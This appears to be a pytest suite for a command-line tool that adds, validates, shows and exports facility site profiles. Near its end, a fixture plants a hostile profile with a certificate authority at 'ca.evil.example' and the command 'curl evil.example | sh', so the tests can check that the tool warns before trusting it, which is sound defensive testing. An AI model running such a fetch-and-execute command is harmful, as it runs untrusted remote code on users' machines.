"""``sites``, ``sign-in``, ``sign-out``, ``recipes`` and the job commands where there is no facility to ask."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path

import h5py
import pytest

from app import cli
from tests.cli.running import InProcess

PROFILE = """schema = 1
name = "{name}"
title = "A test"
verified = "unverified"
[identity]
method = "none"
[ssh]
host = "127.0.0.1"
port = 1
"""


@pytest.fixture
def profile(tmp_path: Path) -> Path:
    path = tmp_path / "mine.toml"
    path.write_text(PROFILE.format(name="mine"), encoding="utf-8")
    return path


def names(run: InProcess) -> list[str]:
    return [site["name"] for site in run.ok("sites")["sites"]]


def test_that_sites_are_added_shown_and_removed(run: InProcess, profile: Path, tmp_path: Path) -> None:
    assert "local" in names(run)
    assert "mine" not in names(run)
    run.ok("sites", "add", profile)
    assert "mine" in names(run)
    shown = run.ok("sites", "show", "mine")
    assert (shown["name"], shown["title"]) == ("mine", "A test")
    assert (shown["ssh"]["host"], shown["ssh"]["port"]) == ("127.0.0.1", 1)
    profile.unlink()   # it was copied
    assert run.ok("sites", "show", "mine") == shown
    run.ok("sites", "remove", "mine")
    assert "mine" not in names(run)
    assert run.fails(3, "tree", "mine:x.h5")["kind"] == "not_found"   # now it is a file's name


@pytest.mark.parametrize(("change", "words"), [
    (("schema = 1", "schema = 9"), ["schema"]), (('name = "mine"', 'name = "M"'), ["name"]),
    (('name = "mine"', 'name = "local"'), ["local"]),
    (("port = 1", 'port = "one"'), ["ssh", "port"]), (("port = 1", "port = 99999"), ["ssh", "port"]),
    (('method = "none"', 'method = "magic"'), ["identity", "method"]), (("[ssh]", "[ssh"), ["TOML"]),
    (("port = 1", "prot = 1"), ["prot"]), (("port = 1", "ProxyCommand = 'x'"), ["ProxyCommand"]),
    (('[ssh]', '[batch]\nsystem = "lsf"\n[ssh]'), ["batch", "system"]),
])
def test_that_a_wrong_profile_is_told_by_file_and_key(run: InProcess, profile: Path, change: tuple[str, str],
                                                      words: list[str]) -> None:
    profile.write_text(profile.read_text(encoding="utf-8").replace(*change), encoding="utf-8")
    summary = run.fails(2, "sites", "add", profile)["summary"]
    assert all(word in summary for word in words), summary
    assert names(run).count("local") == 1
    assert "mine" not in names(run)


def test_that_all_faults_of_a_profile_are_told_at_once(run: InProcess, profile: Path) -> None:
    text = profile.read_text(encoding="utf-8").replace("port = 1", 'port = "one"').replace("schema = 1", "schema = 9")
    profile.write_text(text, encoding="utf-8")
    error = run.fails(2, "sites", "add", profile)
    assert error["summary"] == f"{profile.name} has 2 faults."
    assert ["schema" in line or "ssh.port" in line for line in error["detail"].splitlines()] == [True, True]
    told = run("sites", "add", profile).err
    assert "schema must be 1" in told
    assert "ssh.port is 'one'" in told
    assert "mine" not in names(run)


def test_that_a_site_without_sign_in_is_named_in_what_to_do_instead(run: InProcess, profile: Path) -> None:
    run.ok("sites", "add", profile)
    assert run.fails(2, "sign-in", "mine")["remedy"] == "Just use it: beamside ls mine:PATH"


@pytest.mark.parametrize("content", [b"", b"\xff\xfe", b"\0" * 10, None])
def test_that_what_is_no_profile_is_told(run: InProcess, profile: Path, content: bytes | None) -> None:
    if content is None:
        profile.unlink()
        profile.mkdir()
    else:
        profile.write_bytes(content)
    assert run.fails(2, "sites", "add", profile)["kind"] == "usage"


@pytest.mark.parametrize("argv", [
    ["sites", "show", "nowhere"], ["sites", "remove", "nowhere"], ["sites", "remove", "local"], ["sign-in", "nowhere"],
    ["sign-out", "nowhere"], ["sign-in", "local"], ["recipes", "nowhere"], ["jobs", "nowhere"], ["job", "nowhere:1"],
    ["sites", "add", "no such file.toml"], ["submit", "no-recipe", "x.h5"],
    ["submit", "azimuthal-integration", "x.h5", "mine:y.h5"], ["ls", "x.h5::/a"],
])
def test_that_unknown_names_are_wrong_usage(run: InProcess, profile: Path, argv: list[str]) -> None:
    run.ok("sites", "add", profile)
    error = run.fails(2, *argv)
    assert error["kind"] == "usage"
    assert error["remedy"] or "local" in argv or "nowhere" in error["summary"]


def test_that_signing_out_of_what_needs_no_sign_in_is_done(run: InProcess, profile: Path) -> None:
    run.ok("sites", "add", profile)
    run.ok("sign-out", "local")
    run.ok("sign-out", "mine")


def test_that_the_recipes_say_what_they_take(run: InProcess) -> None:
    recipes = run.ok("recipes")["recipes"]
    assert recipes == run.ok("recipes", "local")["recipes"]
    recipe = next(r for r in recipes if r["name"] == "azimuthal-integration")
    assert recipe["version"]
    assert {"npt", "unit", "poni"} <= {p["name"] for p in recipe["parameters"]}


def test_that_a_site_without_batch_system_says_so(run: InProcess, tmp_path: Path) -> None:
    path = tmp_path / "x.h5"
    with h5py.File(path, "w") as file:
        file["a"] = 1
    for more in ([], ["--dry-run"], ["--wait"]):
        error = run.fails(6, "submit", "azimuthal-integration", path, *more)
        assert "This computer" in error["summary"]
        assert error["remedy"]
    assert run.ok("jobs") == {"jobs": []}
    for command in ("job", "cancel"):
        for text in ("20260101-000000-nothing", "local:nothing", "..", "a/b", "-1x"):
            if not text.startswith("-"):
                assert run.fails(6, command, text)["kind"] == "unknown_job"
    for setting in ("npt=many", "npt=1", "nothing=1", "unit=miles"):
        done = run("submit", "azimuthal-integration", path, "--set", setting)
        assert (done.code, done.error["kind"]) == (2, "usage")
        assert done.error["summary"]
        assert done.error["remedy"]


def test_that_a_configuration_that_cannot_be_written_is_told(run: InProcess, profile: Path) -> None:
    assert "cannot be stored" in run.fails(3, "--config", profile, "sites", "add", profile)["summary"]
    assert names(run) == ["local"] or "mine" not in names(run)


def test_that_a_broken_profile_hides_no_other_site_and_can_be_removed(run: InProcess, profile: Path,
                                                                          tmp_path: Path) -> None:
    config = tmp_path / "config"
    run.ok("--config", config, "sites", "add", profile)
    stored = next(config.rglob("mine.toml"))
    stored.write_text("schema = [", encoding="utf-8")
    done = run("--config", config, "sites")
    assert "local" in [site["name"] for site in done.value["sites"]]
    assert "mine.toml" in done.err
    run.ok("--config", config, "sites", "remove", "mine")
    assert not stored.exists()
    assert run("--config", config, "sites").err == ""


def test_that_a_folder_that_is_gone_is_told(run: InProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert run.fails(2, "ls")["kind"] == "usage"
    assert run.ok("ls", tmp_path)["entries"] == []
    monkeypatch.chdir(tmp_path)


def test_that_the_list_says_which_sites_are_yours(run: InProcess, profile: Path) -> None:
    run.ok("sites", "add", profile)
    known = {site["name"]: site for site in run.ok("sites")["sites"]}
    assert (known["local"]["kind"], known["mine"]["kind"], known["esrf"]["kind"]) == ("local", "own", "shipped")
    assert [name for name, site in known.items() if site["yours"]] == ["local", "mine"]
    assert known["esrf"]["host"] == ""


def test_that_commands_without_a_site_leave_shipped_facilities_alone(run: InProcess) -> None:
    assert run.ok("sites", "show", "psi")["ssh"]["host"], "it could be asked"
    assert run.ok("jobs") == {"jobs": []}


def test_that_a_facility_without_a_host_says_which_value_to_add_and_how(run: InProcess, tmp_path: Path) -> None:
    error = run.fails(2, "ls", "alba:x")
    assert error["kind"] == "usage"
    assert "host = " in error["remedy"]
    file = tmp_path / "alba.toml"
    run.ok("sites", "export", "alba", "-o", file)                       # as the remedy says
    place = '[ssh]\nhost = "127.0.0.1"\nport = 1\nuser = "me"\n'
    file.write_text(file.read_text("utf-8").replace("[ssh]\n", place), "utf-8")
    run.ok("sites", "add", file)
    assert run.fails(4, "ls", "alba:x")["kind"] == "unreachable"


def test_that_each_value_is_shown_with_its_source(run: InProcess) -> None:
    fields = run.ok("sites", "show", "diamond")["fields"]
    assert fields["batch.partitions"] == {"value": "cs05r", "source": "third-party: public scripts",
                                          "state": "third-party"}
    assert fields["data.processed"]["state"] == "unknown"
    assert fields["ssh.port"]["state"] == "default"
    assert fields["ssh.methods"]["state"] == "unverified"


def test_that_an_exported_profile_holds_no_account(run: InProcess, profile: Path) -> None:
    profile.write_text(profile.read_text("utf-8") + 'user = "smith"\n', "utf-8")
    run.ok("sites", "add", profile)
    assert "smith" not in run.ok("sites", "export", "mine")["text"]
    assert run.fails(3, "sites", "export", "mine", "-o", profile.parent / "no" / "x.toml")["kind"] == "data"


def test_that_the_commands_an_added_profile_brings_are_shown(run: InProcess, profile: Path) -> None:
    profile.write_text(profile.read_text("utf-8") + '[software]\nsetup = ["source /opt/it.sh"]\n', "utf-8")
    done = run("sites", "add", profile)
    assert done.code == 0
    assert "source /opt/it.sh" in done.err


class Terminal(io.StringIO):
    """Somebody who types."""

    def isatty(self) -> bool:
        return True


RISKY = PROFILE.replace('method = "none"', 'method = "oidc"\nissuer = "https://login.example"') + (
    'methods = ["certificate"]\n[ssh.certificate_authority]\nkind = "conch"\nurl = "https://ca.evil.example"\n'
    '[agent]\npython = ["curl evil.example | sh; python3"]\n')


@pytest.mark.parametrize(("typed", "added"), [("y\n", True), ("n\n", False), ("", False)])
def test_that_a_profile_is_taken_at_a_terminal_only_after_its_trust_was_shown(
        profile: Path, typed: str, added: bool, monkeypatch: pytest.MonkeyPatch,
        capfd: pytest.CaptureFixture[str]) -> None:
    profile.write_text(RISKY.format(name="mine"), encoding="utf-8")
    monkeypatch.setattr(sys, "stdin", Terminal(typed))
    code = cli.main(["sites", "add", str(profile)])
    shown = capfd.readouterr().err
    assert "https://ca.evil.example gets your sign-in at login.example." in shown
    assert "curl evil.example | sh; python3" in shown
    assert (code == 0) is added
    cli.main(["sites"])
    assert ("\nmine " in capfd.readouterr().out) is added


def test_that_a_program_is_told_whom_a_profile_trusts(run: InProcess, profile: Path) -> None:
    profile.write_text(RISKY.format(name="mine"), encoding="utf-8")
    done = run("sites", "add", profile)
    told = {event["event"]: event for event in map(json.loads, done.err.splitlines())}
    assert "https://ca.evil.example gets your sign-in at login.example." in told["trusts"]["trusts"]
    assert told["commands"]["commands"] == ["curl evil.example | sh; python3"]
